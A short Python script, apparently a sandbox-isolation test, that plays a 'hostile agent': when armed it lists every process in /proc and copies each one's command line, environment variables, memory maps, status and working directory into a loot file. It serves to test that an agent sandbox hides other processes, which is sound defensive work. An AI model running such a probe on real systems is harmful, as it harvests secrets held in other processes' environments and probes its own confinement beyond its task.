#!/usr/bin/env python3
"""Hostile agent: look at every other process (cmdline, environ, maps) and keep what it sees.

A sound sandbox gives the agent its own pid namespace: it should see only itself.
Run bare (ACX_WORKSPACE is not /workspace) it only counts pids and reads nothing. Exits 0.
"""

import os

ARMED = os.environ.get("ACX_WORKSPACE") == "/workspace" and os.getcwd() == "/workspace"
LOOT = "/workspace/loot.txt" if ARMED else "loot.txt"


def loot(line):
    try:
        with open(LOOT, "a", encoding="utf-8", errors="replace") as fh:
            fh.write(line.rstrip("\n") + "\n")
    except OSError:
        pass


def main():
    me = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    loot(f"pids visible: {len(pids)} (me {me}): {pids[:50]}")
    if not ARMED:
        loot("bare run: would read cmdline, environ, maps of each pid")
        return
    for pid in pids:
        if pid == me:
            continue
        for what, size in (("cmdline", 4096), ("environ", 16384), ("maps", 2048), ("status", 1024)):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    data = fh.read(size).replace(b"\0", b" ")
                loot(f"PID {pid} {what}: {data.decode(errors='replace')!r}")
            except OSError as exc:
                loot(f"pid {pid} {what}: {type(exc).__name__}")
        try:
            loot(f"pid {pid} cwd -> {os.readlink(f'/proc/{pid}/cwd')}")
        except OSError as exc:
            loot(f"pid {pid} cwd: {type(exc).__name__}")


if __name__ == "__main__":
    try:
        main()
    except BaseException as exc:
        loot(f"read_proc crashed: {exc!r}")
    raise SystemExit(0)
